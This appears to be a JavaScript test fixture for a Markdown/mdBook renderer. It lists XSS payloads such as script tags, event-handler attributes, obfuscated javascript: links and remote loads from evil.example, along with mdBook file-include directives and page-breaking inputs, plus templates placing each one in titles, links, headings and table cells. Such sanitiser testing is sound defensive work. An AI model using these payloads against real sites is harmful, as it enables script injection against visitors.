// Texts that attack the reader, the page and the tool, and the places of a topic file where they can stand.
//
// `#` becomes the attack's number. A script that runs calls `hit(#)`; what loads comes from evil.example;
// attributes that take effect are named `evil`; `text#x` and all of a long word must be readable in the end.

export const LONG_WORD = 'w'.repeat(10_000)

/** An attack that must not act inside a text, each on one line. */
export const ATTACKS = [
  // Raw HTML.
  '<script>hit(#)</script>',
  '<ScRiPt src="https://evil.example/#.js"></sCrIpT>',
  '</script><script>hit(#)</script>',
  '</style><img src=x onerror=hit(#)>',
  '</label></li></ul></main><b onmouseover=hit(#)>bold</b>',
  '<img src=x onerror="hit(#)">',
  '" onmouseover="hit(#)" x="',
  "' onfocus=hit(#) autofocus x='",
  '<svg onload=hit(#)><script>hit(#)</script></svg>',
  '<iframe srcdoc="<script>parent.hit(#)</script>" src="https://evil.example/#"></iframe>',
  '<details open ontoggle=hit(#)>details</details>',
  '<form action="javascript:hit(#)"><button formaction="javascript:hit(#)">press</button></form>',
  '<style>@import "https://evil.example/#.css"; main { display: none }</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/#">',
  '<a href="javascript:hit(#)" id=evil class=evil>text#x</a>',
  '&lt;script&gt;hit(#)&lt;/script&gt; &#60;img src=x onerror=hit(#)&#62;',
  '`<script>hit(#)</script>` ``` <b onclick=hit(#)> ```',
  '<!-- <script>hit(#)</script>',
  '<!DOCTYPE evil [ <!ENTITY x "y"> <![CDATA[ <?php',

  // Addresses.
  '[text#x](javascript:hit(#))',
  '[text#x](JaVaScRiPt:hit(#))',
  '[text#x](javascript&colon;hit(#)) [text](&#106;avascript:hit(#))',
  '[text#x](<java\tscript:hit(#)>) [text](java&Tab;script:hit(#)) [text](java&NewLine;script:hit(#))',
  '[text#x](&#1;javascript:hit(#)) [text](<\u0001javascript:hit(#)>) [text](<  javascript:hit(#)>)',
  '<javascript:hit(#)>',
  '[text#x](vbscript:hit(#))',
  '[text#x](data:text/html,<script>hit(#)</script>) [text](DATA:text/html;base64,PHNjcmlwdD4=)',
  '[text#x][evil]',
  '[text#x](https://example.org/# "title\\" onmouseover=\\"hit(#)")',
  '[text#x](https://example.org/#"onmouseover="hit(#)) [text](<https://example.org/#?"onclick="hit(#)>)',
  '[<img src=x onerror=hit(#)> text#x](https://example.org/#/text)',
  'https://example.org/#"onmouseover="hit(#) https://example.org/#\'><script>hit(#)</script>',

  // What mdBook would act on.
  '{{#include ../book.toml}}',
  '{{#playground ../book.toml}}',
  '{{#title evil}}',
  '{{title}} {{{content}}} {{> head}}',
  '{#evil .evil onclick=hit(#)}',

  // What only spoils the page.
  `text#x${LONG_WORD}`,
  '\u202Ereversed \u2066isolated \u200F',
  '*open **open _open ~~open [open](open `open',
  '| a | b | \\| c |',
  'null\u0000null',
]

/** Places in the list of a section whose role is known. */
export const TOPIC_PLACES = {
  title: (attack) => `- ${attack}`,
  'dated title': (attack) => `- [2024-01-02] ${attack}`,
  date: (attack) => `- [${attack}] [text](https://example.org/date)`,
  'date with a word': (attack) => `- [2024-01-02 ${attack}] [text](https://example.org/date)`,
  'link text': (attack) => `- [${attack}](https://example.org/text)`,
  'link title': (attack) => `- [text](https://example.org/title "${attack.replaceAll('"', '\\"')}")`,
  'link address': (attack) => `- [text](<https://example.org/${attack}>)`,
  'lead and tag': (attack) => `- topic @${attack} #${attack}`,
  'nested item': (attack) => `- topic\n  - nested\n    1. ${attack}`,
}

/** Places in the file's own prose, which the book shows as it was written. */
export const PROSE_PLACES = {
  paragraph: (attack) => attack,
  item: (attack) => `- ${attack}`,
  heading: (attack) => `## ${attack}`,
  'table cell': (attack) => `| a | b |\n|---|---|\n| ${attack.replaceAll('|', '\\|')} | cell |`,
}

/** Beginnings that are never ended, and in HTML or Markdown swallow what follows. */
export const OPENERS = [
  '<!--', '```', '~~~', '<script>', '<style>', '<pre>', '<div', '<div>', '<![CDATA[', '<?open', '<textarea>', '<title>',
  '<noscript>', '<template>', '<select>', '<table><tr><td>', '<svg>', '<math>', '<plaintext>', '<xmp>', '<a href="',
]
